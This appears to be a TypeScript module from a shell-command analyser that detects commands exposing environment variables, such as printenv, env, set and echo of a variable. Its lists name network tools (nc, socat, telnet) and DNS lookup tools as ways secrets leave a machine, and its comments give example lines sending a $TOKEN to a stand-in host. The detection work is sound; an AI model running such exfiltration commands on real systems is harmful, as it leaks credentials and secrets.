import type { Word } from '../../shell/command.js';
import type { Running } from '../command/running.js';
import { textOf } from '../../shell/command.js';
import { inputText } from '../../shell/output/output.js';
import { variableNamed } from '../../shell/scope.js';
import { isForgeEntry } from '../aggravating/forge-entry.js';
import { emitResource } from '../command/emit.js';
import { printsAssignments } from '../output/assigned-words.js';
import { printsUsually } from '../output/flow.js';
import { tracing } from '../output/traced.js';
import { runWrapped } from '../wrappers/run-wrapped.js';

/** `echo $TOKEN` prints a variable that the environment may hold. */
export function echoEffects(program: string, args: readonly Word[], running: Running): boolean {
  if (program === 'printf' && textOf(args[0]) === '-v') return true;
  printsUsually(running.frame, 'all');
  for (const arg of args) variablesIn(arg, running);
  return true;
}

/** Programs that show their standard input, changed or not. */
const SHOWS_INPUT = new Set('cat tee base64 base32 xxd od hexdump rev nl head tail sort tr cut grep sed awk fold less more'.split(' '));

/** Programs that send it to whoever is at the other end. */
const SENDS_INPUT = new Set('nc ncat netcat telnet socat websocat'.split(' '));

/** `cat <<< "$TOKEN"`, `nc x.test 80 <<< "$TOKEN"`, and a here-document with a variable in it. */
export function inputVariables(running: Running, input: Word): void {
  if (SHOWS_INPUT.has(running.program) || SENDS_INPUT.has(running.program)) variablesIn(input, running);
}

/** `envsubst` puts the values in the places of names that bash has left alone. The rest is left to the table. */
export function substitutedVariables(_program: string, _args: readonly Word[], running: Running): boolean {
  for (const [, name = ''] of inputText(running.command, running.scope).matchAll(/\$\{?(\w+)/g)) emitResource('reveal-environment', 'environment', name, running);
  return false;
}

/** A variable that stands in a text: by its name, or by the name that another variable holds (`${!v}`). What only asks whether it is set (`${X:+yes}`) shows nothing. */
const VARIABLE = /\$(?:\{(!?)([A-Za-z_]\w*)(?!\w|:?\+|[[*]|@(?![AEKLPQUku]\})|:0:[1-4]\})|([A-Za-z_]\w*))/g;

function variablesIn(word: Word, running: Running): void {
  if (!word.written.includes('$')) return;
  for (const match of word.written.matchAll(VARIABLE)) {
    const name = match[2] ?? match[3] ?? '';
    if (match[1] === '!') for (const value of variableNamed(running.scope, name).values) emitResource('reveal-environment', 'environment', /^\w+$/.test(value.text) ? value.text : 'all', running);
    else if (word.values[0].certainty !== 'certain') for (const each of [name, ...(running.frame.analysis.outputs.named.get(name) ?? [])]) emitResource('reveal-environment', 'environment', each, running);
  }
}

/** `dig "$TOKEN.x.test"`, `gh pr comment -b "$TOKEN"`: a variable in a name to look up, or in what others will read. */
export function sentVariables(program: string, args: readonly Word[], running: Running): boolean {
  if (!isForgeEntry(program, args.map(textOf)) && !/^(?:dig|nslookup|host|drill|kdig|ping|ping6)$/.test(program)) return false;
  for (const arg of args) {
    if (arg.values[0].certainty === 'certain') continue;
    for (const match of arg.written.matchAll(VARIABLE)) emitResource('reveal-environment', 'environment', match[2] ?? match[3] ?? '', running);
  }
  return false;
}

/** Programs that print variables when they get nothing else to do. */
export function environmentProgram(program: string, args: readonly Word[], running: Running): boolean {
  const texts = args.map(textOf);
  switch (program) {
    case 'printenv': {
      const names = texts.filter((text) => !text.startsWith('-'));
      for (const name of names.length === 0 ? ['all'] : names) emitResource('reveal-environment', 'environment', name, running);
      return true;
    }
    case 'env': {
      const runs = runWrapped('env', args, running);
      const bare = texts.every((text, index) => (args[index] !== undefined && printsAssignments(args[index])) || /^(?:-0|--null|-i|--ignore-environment|-u|--unset.*)$/.test(text) || /^[A-Za-z_]\w*=/.test(text) || texts[index - 1] === '-u');
      if (bare && !texts.includes('-i') && !texts.includes('--ignore-environment')) emitResource('reveal-environment', 'environment', 'all', running);
      return runs || bare;
    }
    case 'set': {
      const { outputs } = running.frame.analysis;
      outputs.traced = tracing(texts) ?? outputs.traced;
      if (texts.length === 0) emitResource('reveal-environment', 'environment', 'all', running);
      return true;
    }
    default: {
      const names = texts.filter((text) => !text.startsWith('-'));
      // A name for another variable is read as that one.
      if (texts.some((text) => /^-\w*n/.test(text))) for (const text of names) if (text.includes('=')) emitResource('reveal-environment', 'environment', text.slice(text.indexOf('=') + 1), running);
      const prints = texts.some((text) => /^-\w*p/.test(text)) || texts.length === 0 || (program !== 'export' && names.length === 0 && texts.some((text) => /^-\w*x/.test(text)));
      if (!prints) return true;
      for (const name of names.length === 0 ? ['all'] : names) emitResource('reveal-environment', 'environment', name, running);
      return true;
    }
  }
}
